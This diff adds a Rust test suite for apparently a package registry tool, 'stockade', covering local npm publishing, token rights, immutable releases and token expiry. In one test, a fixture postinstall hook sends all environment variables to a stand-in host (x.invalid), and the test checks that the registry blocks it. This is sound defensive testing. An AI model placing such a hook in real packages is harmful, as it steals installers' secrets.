@@ -1,0 +1,240 @@
+//! Packages that are published here: who may, what becomes of it, and that nobody outside is told of a name.
+
+use base64::Engine as _;
+use base64::engine::general_purpose::STANDARD;
+use serde_json::{Value, json};
+use stockade_ecosystem::Stated;
+use stockade_engine::access::TokenRequest;
+use stockade_model::Secret;
+use stockade_testkit::{FakeRegistry, NOW, Package};
+
+use crate::world::{Answer, Setup, World};
+
+const PATH: &str = "/npm/@acme%2fleft";
+const FILE: &str = "/npm/@acme/left/-/left-1.0.0.tgz";
+
+fn hosting(registry: FakeRegistry) -> World {
+    let claims = vec![("pkg:npm/@acme/*".to_owned(), Stated::HOSTED.to_owned())];
+    World::with(registry, Setup { claims, ..Setup::default() })
+}
+
+fn token(world: &World, chance: u8, rights: &[&str]) -> Secret {
+    let rights = rights.iter().map(|right| right.parse().unwrap()).collect();
+    let expires = NOW + jiff::SignedDuration::from_hours(48);
+    let request = TokenRequest { name: "alice".to_owned(), rights, expires };
+    world.runtime.block_on(world.engine.create_token([chance; 32], request)).unwrap().0
+}
+
+fn publisher(world: &World) -> Secret {
+    token(world, 1, &["publish:pkg:npm/@acme/*"])
+}
+
+/// What npm sends to publish a release with this script.
+fn publication(version: &str, script: Option<&str>) -> String {
+    let package = Package::new("@acme/left");
+    let release = package.release(version);
+    let release = script.map_or_else(|| release.clone(), |script| release.clone().script("postinstall", script));
+    let tarball = release.tarball();
+    let name = format!("@acme/left-{version}.tgz");
+    json!({
+        "name": "@acme/left",
+        "dist-tags": { "latest": version },
+        "versions": { version: { "name": "@acme/left", "version": version, "dist": {} } },
+        "_attachments": { name: { "data": STANDARD.encode(tarball) } },
+    })
+    .to_string()
+}
+
+fn send(world: &World, method: &str, path: &str, token: Option<&Secret>, body: &str) -> Answer {
+    let header = token.map(|token| format!("authorization: Bearer {}", token.reveal()));
+    let headers: Vec<&str> = header.iter().map(String::as_str).collect();
+    world.ask(method, path, &headers, body.as_bytes())
+}
+
+fn error(answer: &Answer) -> String {
+    answer.json()["error"].as_str().unwrap_or_default().to_owned()
+}
+
+#[test]
+fn a_release_is_published_listed_and_served_and_nobody_outside_hears_of_it() {
+    let world = hosting(FakeRegistry::start());
+    let alice = publisher(&world);
+    assert_eq!(world.get("/@acme%2fleft").status, 404);
+    let answer = send(&world, "PUT", PATH, Some(&alice), &publication("1.0.0", None));
+    assert_eq!(answer.status, 201, "{}", answer.text());
+    let listed = world.get("/@acme%2fleft").json();
+    assert_eq!(listed["dist-tags"]["latest"], "1.0.0");
+    assert_eq!(listed["versions"]["1.0.0"]["_npmUser"]["name"], "alice");
+    assert_eq!(listed["versions"]["1.0.0"]["dist"]["tarball"], format!("{}{FILE}", world.root()));
+    let file = world.ask("GET", FILE, &[], b"");
+    assert_eq!((file.status, file.is_whole()), (200, true));
+    // It is minutes old, and nobody waits for it.
+    let why = world.why("pkg:npm/@acme/left@1.0.0");
+    assert_eq!(why.sentence, "cleared by stockade: `@acme/left` 1.0.0");
+    let audit = world.ask("POST", "/npm/-/npm/v1/security/advisories/bulk", &[], br#"{"@acme/left":["1.0.0"]}"#);
+    assert_eq!((audit.status, audit.text().as_str()), (200, "{}"));
+    assert_eq!(world.registry.requests().len(), 0);
+    world.log_holds();
+}
+
+#[test]
+fn what_is_published_stays_when_the_process_does_not() {
+    let world = hosting(FakeRegistry::start());
+    let alice = publisher(&world);
+    assert_eq!(send(&world, "PUT", PATH, Some(&alice), &publication("1.0.0", None)).status, 201);
+    let claims = vec![("pkg:npm/@acme/*".to_owned(), Stated::HOSTED.to_owned())];
+    let world = world.restarted_with(Setup { claims, ..Setup::default() });
+    assert_eq!(world.ask("GET", FILE, &[], b"").status, 200);
+    assert_eq!(send(&world, "GET", "/npm/-/whoami", Some(&alice), "").json()["username"], "alice");
+}
+
+#[test]
+fn only_who_may_publishes() {
+    let world = hosting(FakeRegistry::start());
+    let refused = |token: Option<&Secret>, path: &str| {
+        let answer = send(&world, "PUT", path, token, &publication("1.0.0", None));
+        (answer.status, error(&answer))
+    };
+    let needs = "refused by stockade: this needs a token; `stockade token create` makes one";
+    assert_eq!(refused(None, PATH), (401, needs.to_owned()));
+    let unknown = "refused by stockade: the token that was shown is not known here";
+    assert_eq!(refused(Some(&Secret::new("stockade_none")), PATH), (401, unknown.to_owned()));
+    let reader = token(&world, 2, &["read", "approve"]);
+    let no_right = "refused by stockade: no right of the token covers this";
+    assert_eq!(refused(Some(&reader), PATH), (403, no_right.to_owned()));
+    let other = token(&world, 3, &["publish:pkg:npm/@acme/right", "publish:pkg:npm/left"]);
+    let (status, why) = refused(Some(&other), PATH);
+    assert_eq!((status, why.contains("`alice` may not publish `@acme/left`")), (403, true), "{why}");
+    let body = publication("1.0.0", None).replace("@acme/left", "left");
+    let elsewhere = send(&world, "PUT", "/npm/left", Some(&token(&world, 4, &["admin"])), &body);
+    assert_eq!(elsewhere.status, 400, "the tarball is of another package: {}", elsewhere.text());
+    assert_eq!(world.get("/@acme%2fleft").status, 404);
+}
+
+#[test]
+fn a_name_that_is_not_claimed_cannot_be_published() {
+    let world = World::with(FakeRegistry::start(), Setup::default());
+    let admin = token(&world, 1, &["admin"]);
+    let answer = send(&world, "PUT", PATH, Some(&admin), &publication("1.0.0", None));
+    let why = "refused by stockade: `@acme/left` is not published here: its name is not claimed as `hosted` in \
+               `[upstream.npm.claims]`";
+    assert_eq!((answer.status, error(&answer)), (403, why.to_owned()));
+}
+
+#[test]
+fn a_release_never_changes() {
+    let world = hosting(FakeRegistry::start());
+    let alice = publisher(&world);
+    let publish = |script| send(&world, "PUT", PATH, Some(&alice), &publication("1.0.0", script));
+    assert_eq!(publish(None).status, 201);
+    assert_eq!(publish(None).status, 201, "the same once more");
+    let answer = publish(Some("node evil.js"));
+    assert_eq!(answer.status, 409);
+    assert!(error(&answer).contains("was published by `alice` at "), "{}", error(&answer));
+    let revision = world.get("/@acme%2fleft?write=true").json()["_rev"].as_str().unwrap().to_owned();
+    let gone = send(&world, "DELETE", &format!("{PATH}/-rev/{revision}"), Some(&alice), "");
+    assert_eq!(gone.status, 200, "{}", gone.text());
+    assert_eq!((world.get("/@acme%2fleft").status, world.ask("GET", FILE, &[], b"").status), (404, 404));
+    assert_eq!(publish(Some("node evil.js")).status, 409, "not in the place of what was taken off either");
+    assert_eq!(publish(None).status, 409);
+    world.log_holds();
+}
+
+#[test]
+fn a_release_of_our_own_is_inspected_too() {
+    let world = hosting(FakeRegistry::start());
+    let alice = publisher(&world);
+    let send = |version, script| send(&world, "PUT", PATH, Some(&alice), &publication(version, script)).status;
+    assert_eq!(send("1.0.0", None), 201);
+    assert_eq!(world.ask("GET", FILE, &[], b"").status, 200);
+    let hook = "node -e \"require('https').request('https://x.invalid/').end(JSON.stringify(process.env))\"";
+    assert_eq!(send("1.0.1", Some(hook)), 201);
+    let file = world.ask("GET", "/npm/@acme/left/-/left-1.0.1.tgz", &[], b"");
+    assert_eq!(file.status, 403, "{}", file.text());
+    assert!(file.phrase.contains("`@acme/left` 1.0.1"), "{}", file.phrase);
+}
+
+#[test]
+fn a_digest_that_does_not_fit_is_refused() {
+    let world = hosting(FakeRegistry::start());
+    let alice = publisher(&world);
+    let body =
+        publication("1.0.0", None).replace(r#""dist":{}"#, &format!(r#""dist":{{"shasum":"{}"}}"#, "0".repeat(40)));
+    let answer = send(&world, "PUT", PATH, Some(&alice), &body);
+    assert_eq!(answer.status, 400);
+    assert!(error(&answer).ends_with("does not have the digest that came with it; send it again"));
+    assert_eq!(world.get("/@acme%2fleft").status, 404);
+}
+
+#[test]
+fn a_state_that_is_out_of_date_is_refused() {
+    let world = hosting(FakeRegistry::start());
+    let alice = publisher(&world);
+    for version in ["1.0.0", "1.0.1"] {
+        assert_eq!(send(&world, "PUT", PATH, Some(&alice), &publication(version, None)).status, 201);
+    }
+    let mut document = world.get("/@acme%2fleft?write=true").json();
+    document["versions"]["1.0.0"]["deprecated"] = json!("use 1.0.1");
+    let write = |document: &Value| send(&world, "PUT", PATH, Some(&alice), &document.to_string()).status;
+    assert_eq!((write(&document), write(&document)), (200, 409));
+    assert_eq!(world.get("/@acme%2fleft").json()["versions"]["1.0.0"]["deprecated"], "use 1.0.1");
+    let mut newest = world.get("/@acme%2fleft?write=true").json();
+    newest["versions"]["9.9.9"] = json!({});
+    assert_eq!(write(&newest), 404);
+}
+
+#[test]
+fn a_token_ends() {
+    let world = hosting(FakeRegistry::start());
+    let alice = publisher(&world);
+    let who = |token: &Secret| send(&world, "GET", "/npm/-/whoami", Some(token), "");
+    assert_eq!(who(&alice).status, 200);
+    let spare = token(&world, 2, &["read"]);
+    let revoke = send(&world, "DELETE", &format!("/npm/-/user/token/{}", spare.reveal()), Some(&alice), "");
+    assert_eq!((revoke.status, who(&spare).status), (200, 401));
+    assert!(error(&who(&spare)).contains("was revoked at "));
+    world.pass(49);
+    assert!(error(&who(&alice)).contains("expired at "));
+    let publish = send(&world, "PUT", PATH, Some(&alice), &publication("1.0.0", None));
+    assert_eq!(publish.status, 401);
+    world.log_holds();
+}
+
+#[test]
+fn a_token_ends_nobody_elses() {
+    let world = hosting(FakeRegistry::start());
+    let alice = publisher(&world);
+    let expires = NOW + jiff::SignedDuration::from_hours(48);
+    let request = TokenRequest { name: "bob".to_owned(), rights: vec!["admin".parse().unwrap()], expires };
+    let (bob, known) = world.runtime.block_on(world.engine.create_token([9; 32], request)).unwrap();
+    for token in [bob.reveal(), known.id.as_str()] {
+        let path = format!("/npm/-/npm/v1/tokens/token/{token}");
+        assert_eq!(send(&world, "DELETE", &path, Some(&alice), "").status, 404);
+    }
+    assert_eq!(send(&world, "GET", "/npm/-/npm/v1/tokens", Some(&bob), "").json()["objects"][0]["key"], known.id);
+}
+
+#[test]
+fn a_password_is_a_token() {
+    let world = hosting(FakeRegistry::start());
+    let alice = publisher(&world);
+    let log_in = |password: &str| {
+        let body = json!({ "name": "whoever", "password": password }).to_string();
+        send(&world, "PUT", "/npm/-/user/org.couchdb.user:whoever", None, &body)
+    };
+    assert_eq!(log_in(alice.reveal()).json()["token"], alice.reveal());
+    for wrong in ["hunter2", "stockade_", &alice.reveal()[1..]] {
+        assert_eq!(log_in(wrong).status, 401, "{wrong}");
+    }
+    let basic = format!("authorization: Basic {}", STANDARD.encode(format!("__token__:{}", alice.reveal())));
+    assert_eq!(world.ask("GET", "/npm/-/whoami", &[&basic], b"").json()["username"], "alice");
+}
+
+#[test]
+fn a_body_that_is_too_long_is_not_read() {
+    let world = hosting(FakeRegistry::start());
+    let alice = publisher(&world);
+    let header = format!("authorization: Bearer {}\r\ncontent-length: 300000000", alice.reveal());
+    let answer = world.ask("PUT", PATH, &[&header], b"");
+    assert!([400, 413].contains(&answer.status), "{}", answer.status);
+}
